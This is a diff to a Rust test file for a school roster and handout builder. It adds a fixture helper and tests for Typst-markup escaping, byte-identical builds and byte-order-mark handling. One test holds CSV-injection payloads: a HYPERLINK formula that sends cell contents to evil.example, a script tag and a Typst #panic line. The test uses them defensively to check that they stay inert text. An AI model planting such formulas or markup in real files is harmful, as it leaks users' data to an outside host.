@@ -28,6 +28,14 @@ fn ids_of(list: &[(String, String, bool)], role: &str, council_only: bool) -> BT
     list.iter().filter(|(_, r, c)| r == role && (!council_only || *c)).map(|(id, ..)| id.clone()).collect()
 }
 
+/// A copy of the valid fixture in a temporary folder, and its policies/ path.
+fn valid_fixture_copy() -> (tempfile::TempDir, std::path::PathBuf) {
+    let tmp = tempfile::tempdir().unwrap();
+    let policies = tmp.path().join("policies");
+    copy_tree(&root().join("tests/fixtures/valid"), &policies);
+    (tmp, policies)
+}
+
 fn build_school() -> tempfile::TempDir {
     let out = tempfile::tempdir().unwrap();
     let o = run(&["build", "policies", "--only", "school-max", "--out", out.path().to_str().unwrap()]);
@@ -143,19 +151,23 @@ fn roster_files_are_owner_only() {
 fn hostile_values_in_a_people_list_stay_text() {
     const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?"&A1,"Открыть")"#;
     const MARKUP: &str = r#"*Ив* <script>alert(1)</script> #panic("x")"#;
-    let tmp = tempfile::tempdir().unwrap();
-    let policies = tmp.path().join("policies");
-    copy_tree(&root().join("tests/fixtures/valid"), &policies);
+    let (tmp, policies) = valid_fixture_copy();
     let list = format!(
         "id,role,surname,name,patronymic,child,phone,email,council\ns1,student,\"{}\",@SUM(1),-2+3,,,,\np1,parent,\"{}\",Ольга,,s1,+7 900 000-10-02,,\n",
         FORMULA.replace('"', "\"\""),
         MARKUP.replace('"', "\"\"")
     );
     std::fs::write(policies.join("demo/people/5a.csv"), list).unwrap();
+    // Typst markup in the group's name reaches the handout as text.
+    let chats = policies.join("demo/chats.yaml");
+    std::fs::write(&chats, std::fs::read_to_string(&chats).unwrap().replace("name: 5 «А»", r##"name: "#panic(\"x\") *5А* $x$ <b>""##)).unwrap();
     let out = tmp.path().join("out");
     let o = run(&["build", policies.to_str().unwrap(), "--out", out.to_str().unwrap()]);
     assert!(o.status.success(), "{}", stderr(&o));
     let rosters = out.join("demo/restricted/rosters");
+
+    let handout = fold(&pdf_text(&rosters.join("handouts/5a.pdf")));
+    assert!(handout.contains(r##"#panic("x") *5А* $x$ <b>: обучающиеся"##), "{handout}");
 
     let rows = read_csv(&rosters.join("chats/5a-students.csv"));
     assert_eq!(rows[1][5], format!("'{FORMULA}"), "a formula gets a leading apostrophe in CSV");
@@ -201,9 +213,7 @@ fn tracked_warnings(policies: &Path) -> Vec<String> {
 /// data marked as invented do not.
 #[test]
 fn tracked_people_lists_and_invites_are_warned_about() {
-    let tmp = tempfile::tempdir().unwrap();
-    let policies = tmp.path().join("policies");
-    copy_tree(&root().join("tests/fixtures/valid"), &policies);
+    let (_tmp, policies) = valid_fixture_copy();
     let list = policies.join("demo/people/5a.csv");
     let real = std::fs::read_to_string(&list).unwrap().replace("# invented: made-up people for the tests\n", "");
     std::fs::write(&list, real).unwrap();
@@ -355,4 +365,32 @@ fn roster_diff_of_an_invalid_list_points_at_it() {
     assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
     assert_has(&stderr(&o), &["error[csv-bad-phone]", &format!("{}:6:", list.display()), "+7 800 000-20-04"], "the report");
     assert!(stdout(&o).is_empty(), "no diff printed");
+}
+
+/// Two builds with invite links give the same bytes for every roster, workbook and handout.
+#[test]
+fn rosters_and_handouts_are_byte_identical_across_builds() {
+    let (a, b) = (build_examples_with_invites(), build_examples_with_invites());
+    let rosters = |t: &tempfile::TempDir| hashes(&t.path().join("out/school-max/restricted/rosters"));
+    let (ha, hb) = (rosters(&a), rosters(&b));
+    assert_eq!(ha.len(), 19, "{:?}", ha.keys());
+    assert_eq!(ha, hb);
+}
+
+/// A list saved by Excel with a byte-order mark reads the same; columns count without it.
+#[test]
+fn a_list_with_a_byte_order_mark_is_read() {
+    let (_tmp, policies) = valid_fixture_copy();
+    let list = policies.join("demo/people/5a.csv");
+    let text = std::fs::read_to_string(&list).unwrap();
+    let header_first: String = text.lines().skip(1).map(|l| format!("{l}\n")).collect();
+    std::fs::write(&list, format!("\u{feff}{header_first}")).unwrap();
+    let o = run(&["check", policies.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    std::fs::write(&list, format!("\u{feff}{}", header_first.replacen("id,role", "id,rol", 1))).unwrap();
+    let o = run(&["check", policies.to_str().unwrap(), "--format", "json"]);
+    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    let d = report["diagnostics"].as_array().unwrap().iter().find(|d| d["code"] == "csv-unknown-column").expect("the misspelt column");
+    assert_eq!((d["line"].as_u64(), d["column"].as_u64()), (Some(1), Some(4)), "{report:#}");
+    assert!(d["message"].as_str().unwrap().contains("`rol`"), "{d}");
 }
